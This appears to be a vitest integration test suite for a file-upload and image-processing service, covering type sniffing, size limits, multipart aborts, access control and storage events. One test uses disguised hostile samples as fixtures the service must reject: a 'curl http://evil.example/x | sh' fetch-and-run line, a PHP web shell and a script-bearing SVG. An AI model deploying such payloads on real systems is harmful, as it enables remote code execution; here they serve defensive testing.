import { createHash, randomBytes } from 'node:crypto';
import http, { type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { GetObjectCommand, PutObjectCommand } from '@aws-sdk/client-s3';
import request from 'supertest';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { describeServiceContract, testInfra, uniqueName, waitFor } from '@nself/test-support';
import { adminOf, newUser, startHarness, upload, type Harness } from './helpers.js';

let h: Harness;

beforeAll(async () => {
  // No worker here: jobs stay queued, so what the API itself does can be checked in isolation.
  h = await startHarness({ env: { FILE_MAX_SIZE: '2MB' } });
});
afterAll(async () => {
  await h?.close();
});

describeServiceContract('file-processing', () => ({ app: h.app, protectedRoute: { method: 'get', path: '/v1/files' } }));

async function smallJpeg(seed = 1): Promise<Buffer> {
  return sharp({ create: { width: 64 + seed, height: 48, channels: 3, background: { r: seed * 40, g: 80, b: 120 } } })
    .jpeg()
    .toBuffer();
}

describe('uploads', { timeout: 60_000 }, () => {
  it('stores the file, records size and sha256 and queues a job (202)', async () => {
    const user = newUser();
    const jpeg = await smallJpeg();
    const res = await upload(h.app, user.headers, jpeg, { filename: 'holiday.jpg', contentType: 'image/jpeg' });
    expect(res.status).toBe(202);
    expect(res.body).toMatchObject({ mimeType: 'image/jpeg', sizeBytes: jpeg.length, duplicate: false, status: 'uploaded' });
    expect(res.body.sha256).toBe(createHash('sha256').update(jpeg).digest('hex'));

    const row = await h.runtime.repo.getFile(res.body.fileId);
    expect(row).toMatchObject({ sourceAccountId: user.account, ownerId: user.sub, originalName: 'holiday.jpg' });
    const job = await h.runtime.repo.getJob(res.body.jobId);
    expect(job).toMatchObject({ fileId: res.body.fileId, status: 'queued' });
    // The object holds exactly the uploaded bytes.
    const object = await h.s3.send(new GetObjectCommand({ Bucket: h.config.storage.bucket, Key: row!.objectKey }));
    expect(Buffer.from(await object.Body!.transformToByteArray()).equals(jpeg)).toBe(true);
    expect(object.ContentType).toBe('image/jpeg');
    expect((await h.runtime.queue.counts()).waiting).toBeGreaterThan(0);
  });

  it('takes the type from the content: a PNG named .jpg is a PNG', async () => {
    const user = newUser();
    const png = await sharp({ create: { width: 20, height: 20, channels: 4, background: '#ff000080' } }).png().toBuffer();
    const res = await upload(h.app, user.headers, png, { filename: 'photo.jpg', contentType: 'image/jpeg' });
    expect(res.status).toBe(202);
    expect(res.body.mimeType).toBe('image/png');
    const row = await h.runtime.repo.getFile(res.body.fileId);
    expect(row).toMatchObject({ mimeType: 'image/png', declaredMimeType: 'image/jpeg' });
    expect(row!.objectKey).toMatch(/original\.png$/);
  });

  it('refuses a script disguised as an image (415) and leaves nothing behind', async () => {
    const user = newUser();
    const before = await h.listKeys();
    for (const [name, body] of [
      ['cat.jpg', Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n')],
      ['cat.png', Buffer.from('<?php system($_GET["c"]); ?>')],
      ['cat.gif', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
    ] as const) {
      const res = await upload(h.app, user.headers, body, { filename: name, contentType: 'image/jpeg' });
      expect(res.status, name).toBe(415);
      expect(res.body.code).toBe('FILE_TYPE_NOT_ALLOWED');
    }
    expect(await h.listKeys()).toEqual(before);
    expect((await h.runtime.repo.listFiles({ sourceAccountId: user.account, limit: 10 })).length).toBe(0);
  });

  it('refuses an oversized upload announced by Content-Length with 413, storing nothing', async () => {
    const user = newUser();
    const before = await h.listKeys();
    const big = Buffer.concat([await smallJpeg(), randomBytes(3 * 1024 * 1024)]);
    const res = await upload(h.app, user.headers, big, { filename: 'big.jpg', contentType: 'image/jpeg' });
    expect(res.status).toBe(413);
    expect(res.body.code).toBe('FILE_TOO_LARGE');
    expect(await h.listKeys()).toEqual(before);
    expect((await h.runtime.repo.listFiles({ sourceAccountId: user.account, limit: 10 })).length).toBe(0);
  });

  it('dedupes: the same owner uploading the same bytes gets the existing file', async () => {
    const user = newUser();
    const jpeg = await smallJpeg(3);
    const first = await upload(h.app, user.headers, jpeg, { filename: 'a.jpg' });
    const second = await upload(h.app, user.headers, jpeg, { filename: 'b.jpg' });
    expect(first.status).toBe(202);
    expect(second.status).toBe(200);
    expect(second.body).toMatchObject({ fileId: first.body.fileId, jobId: first.body.jobId, duplicate: true });
    const keys = (await h.listKeys()).filter((k) => k.startsWith(`${user.account}/`));
    expect(keys).toHaveLength(1);
    // Another user of the same account gets a file of their own.
    const other = newUser(user.account);
    const third = await upload(h.app, other.headers, jpeg, { filename: 'c.jpg' });
    expect(third.status).toBe(202);
    expect(third.body.fileId).not.toBe(first.body.fileId);
  });

  it('validates the request: auth, multipart, a file part', async () => {
    const user = newUser();
    expect((await request(h.app).post('/v1/files').attach('file', Buffer.from('x'), 'x.jpg')).status).toBe(401);
    const json = await request(h.app).post('/v1/files').set(user.headers).send({ file: 'x' });
    expect(json.status).toBe(415);
    expect(json.body.code).toBe('MULTIPART_REQUIRED');
    const noFile = await request(h.app).post('/v1/files').set(user.headers).field('name', 'x');
    expect(noFile.status).toBe(400);
    expect(noFile.body.code).toBe('FILE_REQUIRED');
    const empty = await upload(h.app, user.headers, Buffer.alloc(0), { filename: 'empty.jpg' });
    expect(empty.status).toBe(400);
    expect(empty.body.code).toBe('EMPTY_FILE');
    // Two files in one request: refused, and the first one is not left in the bucket.
    const two = await request(h.app)
      .post('/v1/files')
      .set(user.headers)
      .attach('file', await smallJpeg(20), 'one.jpg')
      .attach('other', await smallJpeg(21), 'two.jpg');
    expect(two.status).toBe(400);
    expect(two.body.code).toBe('TOO_MANY_FILES');
    await waitFor(async () => (await h.listKeys()).every((k) => !k.startsWith(`${user.account}/`)), { label: 'no objects' });
    expect((await h.runtime.repo.listFiles({ sourceAccountId: user.account, limit: 10 })).length).toBe(0);
  });
});

describe('streamed uploads over the limit', { timeout: 60_000 }, () => {
  // A recording proxy in front of the S3 server shows the multipart upload being aborted.
  let proxy: Server;
  let seen: string[] = [];
  let stream: Harness;
  let server: Server;

  beforeAll(async () => {
    const target = new URL(testInfra().s3.endpoint);
    proxy = http.createServer((req, res) => {
      seen.push(`${req.method} ${req.url}`);
      const upstream = http.request(
        { host: target.hostname, port: target.port, method: req.method, path: req.url, headers: req.headers },
        (up) => {
          res.writeHead(up.statusCode ?? 502, up.headers);
          up.pipe(res);
        },
      );
      upstream.on('error', () => res.destroy());
      req.pipe(upstream);
    });
    await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
    stream = await startHarness({
      env: {
        FILE_STORAGE_ENDPOINT: `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`,
        FILE_MAX_SIZE: '7MB',
        FILE_UPLOAD_PART_SIZE: '5MB',
      },
    });
    server = stream.app.listen(0, '127.0.0.1');
    await new Promise((resolve) => server.once('listening', resolve));
  });
  afterAll(async () => {
    await new Promise((resolve) => server?.close(resolve));
    await stream?.close();
    await new Promise((resolve) => proxy?.close(resolve));
  });

  /** A chunked multipart upload (no Content-Length, so only the streaming limit can catch it). */
  function chunkedUpload(headers: Record<string, string>, payload: Buffer): Promise<{ status: number; body: string }> {
    const boundary = `----fp${randomBytes(8).toString('hex')}`;
    const { port } = server.address() as AddressInfo;
    return new Promise((resolve, reject) => {
      const req = http.request(
        {
          host: '127.0.0.1',
          port,
          method: 'POST',
          path: '/v1/files',
          headers: { ...headers, 'content-type': `multipart/form-data; boundary=${boundary}`, 'transfer-encoding': 'chunked' },
        },
        (res) => {
          let body = '';
          res.setEncoding('utf8');
          res.on('data', (c: string) => (body += c));
          res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
        },
      );
      req.on('error', reject);
      void (async () => {
        const write = (chunk: Buffer | string) =>
          new Promise<void>((done) => (req.write(chunk) ? done() : req.once('drain', () => done())));
        await write(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="huge.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`);
        for (let i = 0; i < payload.length && !req.destroyed; i += 256 * 1024) await write(payload.subarray(i, i + 256 * 1024));
        req.end(`\r\n--${boundary}--\r\n`);
      })();
    });
  }

  it('aborts the S3 multipart upload at the limit and answers 413; no object, no row', async () => {
    const user = newUser();
    seen = [];
    const jpegHead = await smallJpeg(5);
    const payload = Buffer.concat([jpegHead, randomBytes(10 * 1024 * 1024)]);
    const res = await chunkedUpload(user.headers, payload);
    expect(res.status).toBe(413);
    expect(JSON.parse(res.body).code).toBe('FILE_TOO_LARGE');

    // A multipart upload was started (the first 5 MB part went out) and then aborted.
    const created = seen.find((line) => /^POST .*\?uploads/.test(line));
    expect(created, seen.join('\n')).toBeDefined();
    expect(seen.some((line) => /^PUT .*uploadId=/.test(line))).toBe(true);
    await waitFor(() => seen.some((line) => /^DELETE .*uploadId=/.test(line)), { timeoutMs: 10_000, label: 'AbortMultipartUpload' });
    expect(seen.some((line) => /^POST .*uploadId=/.test(line))).toBe(false); // never completed
    expect((await stream.listKeys()).filter((k) => k.startsWith(`${user.account}/`))).toEqual([]);
    expect((await stream.runtime.repo.listFiles({ sourceAccountId: user.account, limit: 10 })).length).toBe(0);
  });

  it('accepts a streamed upload under the limit (multipart, two parts)', async () => {
    const user = newUser();
    seen = [];
    const payload = Buffer.concat([await smallJpeg(6), randomBytes(6 * 1024 * 1024)]);
    const res = await chunkedUpload(user.headers, payload);
    expect(res.status, res.body).toBe(202);
    const body = JSON.parse(res.body);
    expect(body.sizeBytes).toBe(payload.length);
    expect(body.sha256).toBe(createHash('sha256').update(payload).digest('hex'));
    expect(seen.some((line) => /^POST .*uploadId=/.test(line))).toBe(true); // CompleteMultipartUpload
    const row = await stream.runtime.repo.getFile(body.fileId);
    const head = await stream.runtime.storage.head(row!.objectKey);
    expect(head?.size).toBe(payload.length);
  });
});

describe('files, jobs and access', { timeout: 60_000 }, () => {
  it('shows a file to its owner and admins of its account only; no URLs before processing', async () => {
    const owner = newUser();
    const res = await upload(h.app, owner.headers, await smallJpeg(7), { filename: 'x.jpg' });
    const id = res.body.fileId as string;
    const mine = await request(h.app).get(`/v1/files/${id}`).set(owner.headers);
    expect(mine.status).toBe(200);
    expect(mine.body).toMatchObject({ id, status: 'uploaded', download: null, original: null, thumbnails: [] });
    expect(mine.body.job).toMatchObject({ id: res.body.jobId, status: 'queued' });

    const sameAccount = newUser(owner.account);
    expect((await request(h.app).get(`/v1/files/${id}`).set(sameAccount.headers)).status).toBe(404);
    const otherAccount = newUser();
    expect((await request(h.app).get(`/v1/files/${id}`).set(otherAccount.headers)).status).toBe(404);
    expect((await request(h.app).get(`/v1/files/${id}`).set(adminOf(otherAccount.account))).status).toBe(404);
    expect((await request(h.app).get(`/v1/files/${id}`).set(adminOf(owner.account))).status).toBe(200);

    const job = await request(h.app).get(`/v1/jobs/${res.body.jobId}`).set(owner.headers);
    expect(job.status).toBe(200);
    expect(job.body).toMatchObject({ id: res.body.jobId, fileId: id, status: 'queued', attempts: 0 });
    expect((await request(h.app).get(`/v1/jobs/${res.body.jobId}`).set(sameAccount.headers)).status).toBe(404);

    const list = await request(h.app).get('/v1/files').set(owner.headers);
    expect(list.body.files.map((f: { id: string }) => f.id)).toEqual([id]);
    expect((await request(h.app).get('/v1/files').set(sameAccount.headers)).body.files).toEqual([]);
    expect((await request(h.app).get('/v1/files/not-a-uuid').set(owner.headers)).status).toBe(404);
  });

  it('deletes a file with its objects', async () => {
    const owner = newUser();
    const res = await upload(h.app, owner.headers, await smallJpeg(8), { filename: 'x.jpg' });
    const row = await h.runtime.repo.getFile(res.body.fileId);
    expect(await h.runtime.storage.head(row!.objectKey)).not.toBeNull();
    expect((await request(h.app).delete(`/v1/files/${res.body.fileId}`).set(newUser(owner.account).headers)).status).toBe(404);
    expect((await request(h.app).delete(`/v1/files/${res.body.fileId}`).set(owner.headers)).status).toBe(204);
    expect(await h.runtime.storage.head(row!.objectKey)).toBeNull();
    expect((await request(h.app).get(`/v1/files/${res.body.fileId}`).set(owner.headers)).status).toBe(404);
    expect((await h.runtime.repo.getFile(res.body.fileId))?.status).toBe('deleted');
    expect((await h.runtime.repo.getJob(res.body.jobId))?.status).toBe('failed');
  });

  it('serves account stats to admins only', async () => {
    const owner = newUser();
    await upload(h.app, owner.headers, await smallJpeg(9), { filename: 'x.jpg' });
    expect((await request(h.app).get('/v1/stats').set(owner.headers)).status).toBe(403);
    const stats = await request(h.app).get('/v1/stats').set(adminOf(owner.account));
    expect(stats.status).toBe(200);
    expect(stats.body).toMatchObject({ sourceAccountId: owner.account, files: { uploaded: 1 }, jobs: { queued: 1 } });
    expect(stats.body.queue.waiting).toBeGreaterThan(0);
  });

  it('queues another run on POST /process and returns the run already queued', async () => {
    const owner = newUser();
    const res = await upload(h.app, owner.headers, await smallJpeg(10), { filename: 'x.jpg' });
    const again = await request(h.app).post(`/v1/files/${res.body.fileId}/process`).set(owner.headers);
    expect(again.status).toBe(202);
    expect(again.body).toMatchObject({ fileId: res.body.fileId, jobId: res.body.jobId, existing: true });
  });
});

describe('storage events', { timeout: 60_000 }, () => {
  const secret = 'storage-event-secret-0123456789';
  const record = (bucket: string, key: string, eventName = 's3:ObjectCreated:Put') => ({
    EventName: eventName,
    Key: `${bucket}/${key}`,
    Records: [{ eventName, s3: { bucket: { name: bucket }, object: { key: encodeURIComponent(key).replace(/%20/g, '+'), size: 1 } } }],
  });

  it('refuses missing and wrong tokens', async () => {
    const payload = record(h.config.storage.bucket, 'x.jpg');
    expect((await request(h.app).post('/v1/storage-events').send(payload)).status).toBe(401);
    const wrong = await request(h.app).post('/v1/storage-events').set('authorization', 'Bearer wrong-secret-0123456789').send(payload);
    expect(wrong.status).toBe(401);
    expect(wrong.body.code).toBe('INVALID_EVENT_TOKEN');
  });

  it('registers and queues objects written straight into the bucket; removal marks them deleted', async () => {
    const account = uniqueName('acct');
    const key = `incoming/${uniqueName('obj')} photo.jpg`;
    const jpeg = await smallJpeg(11);
    await h.s3.send(
      new PutObjectCommand({ Bucket: h.config.storage.bucket, Key: key, Body: jpeg, ContentType: 'image/jpeg', Metadata: { 'owner-id': 'u-42' } }),
    );
    const res = await request(h.app)
      .post(`/v1/storage-events?sourceAccountId=${account}`)
      .set('authorization', secret) // MinIO sends its auth_token as the bare header value
      .send(record(h.config.storage.bucket, key));
    expect(res.status).toBe(202);
    expect(res.body.accepted).toHaveLength(1);
    const file = await h.runtime.repo.getFile(res.body.accepted[0].fileId);
    expect(file).toMatchObject({ sourceAccountId: account, ownerId: 'u-42', objectKey: key, mimeType: 'image/jpeg', sizeBytes: BigInt(jpeg.length) });
    expect((await h.runtime.repo.getJob(res.body.accepted[0].jobId))?.status).toBe('queued');

    // Events for the service's own keys and for other buckets are ignored.
    const own = await request(h.app)
      .post('/v1/storage-events')
      .set('x-storage-event-token', secret)
      .send(record(h.config.storage.bucket, `${account}/${file!.id}/thumbnails/100x100.webp`));
    expect(own.body.accepted).toEqual([]);
    const other = await request(h.app).post('/v1/storage-events').set('authorization', `Bearer ${secret}`).send(record('another-bucket', key));
    expect(other.body.skipped[0].reason).toBe('not the configured bucket');

    const removed = await request(h.app)
      .post('/v1/storage-events')
      .set('authorization', `Bearer ${secret}`)
      .send(record(h.config.storage.bucket, key, 's3:ObjectRemoved:Delete'));
    expect(removed.body.removed).toEqual([{ key, fileId: file!.id }]);
    expect((await h.runtime.repo.getFile(file!.id))?.status).toBe('deleted');
  });

  it('skips stored objects of a type that is not allowed', async () => {
    const key = `incoming/${uniqueName('obj')}.jpg`;
    await h.s3.send(new PutObjectCommand({ Bucket: h.config.storage.bucket, Key: key, Body: Buffer.from('#!/bin/sh\necho hi\n') }));
    const res = await request(h.app).post('/v1/storage-events').set('authorization', `Bearer ${secret}`).send(record(h.config.storage.bucket, key));
    expect(res.body.accepted).toEqual([]);
    expect(res.body.skipped[0].reason).toMatch(/not allowed/);
  });
});
